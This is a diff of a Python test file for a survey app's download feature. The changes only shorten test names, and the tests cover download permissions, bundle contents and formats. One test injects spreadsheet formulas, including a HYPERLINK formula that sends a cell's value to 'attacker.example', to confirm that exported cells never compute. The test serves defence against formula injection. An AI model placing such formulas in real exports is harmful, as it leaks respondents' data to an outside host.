@@ -68,7 +68,7 @@ def download(client: Client, survey: Survey, kind: str = "csv") -> ZipFile:
     return ZipFile(io.BytesIO(b"".join(answer.streaming_content)))
 
 
-def test_owner_editor_and_reviewer_download_once_it_is_allowed_and_a_viewer_does_not(
+def test_who_may_edit_downloads_once_it_is_allowed(
     finished: Survey,
     client: Client,
     owner: Person,
@@ -97,9 +97,7 @@ TELLS = "reveals whether a withheld answer lets the question appear"
 TRUE = "They are true from people who chose no disguise"
 
 
-def test_the_page_says_what_the_rows_of_open_answers_hold_and_what_rules_tell_of_them(
-    survey: Survey, client: Client, owner: Person
-) -> None:
+def test_the_page_says_what_open_rows_and_rules_tell(survey: Survey, client: Client, owner: Person) -> None:
     assert "Those who chose none are in it once the survey is finished." in page(client, survey)
     shown = page(client, sealed.finish(survey))
     assert TRUE in shown
@@ -114,9 +112,7 @@ def test_the_page_says_what_the_rows_of_open_answers_hold_and_what_rules_tell_of
             assert (words in shown) is opens
 
 
-def test_a_bundle_brings_codebook_scripts_and_design_in_the_downloaders_language(
-    allowed: Survey, client: Client, owner: Person
-) -> None:
+def test_a_bundle_speaks_the_downloaders_language(allowed: Survey, client: Client, owner: Person) -> None:
     Inbox.objects.create(survey=allowed, record=b"100")
     bundle = download(client, allowed)
     assert bundle.namelist() == ["codebook.md", "analysis.R", "analysis.py", "design.json", "records.csv"]
@@ -134,9 +130,7 @@ def test_a_bundle_brings_codebook_scripts_and_design_in_the_downloaders_language
     assert "是" in table.schema.field("theft").metadata[b"candor:labels"].decode()
 
 
-def test_no_cell_of_a_download_is_computed_by_who_opens_it(
-    client: Client, owner: Person, allow: Allow
-) -> None:
+def test_no_cell_is_computed_by_who_opens_it(client: Client, owner: Person, allow: Allow) -> None:
     formula = '=HYPERLINK("http://attacker.example/"&A1,"see")'
     question = {"name": "+1+2", "choices": [formula, "@SUM(A1)"]}
     asks = asked.written({"kind": "plain", "questions": [question]}, least=20)
@@ -165,7 +159,7 @@ def test_the_other_formats_hold_the_same_records_and_each_download_stands_in_the
     assert ask(client, allowed, "xls").status_code == 422
 
 
-def test_where_nothing_is_sealed_opened_or_left_there_is_nothing_to_download(
+def test_without_sealed_records_there_is_no_file(
     draft: Survey, survey: Survey, client: Client, owner: Person, allow: Allow
 ) -> None:
     assert "once the survey has been opened" in page(client, draft)
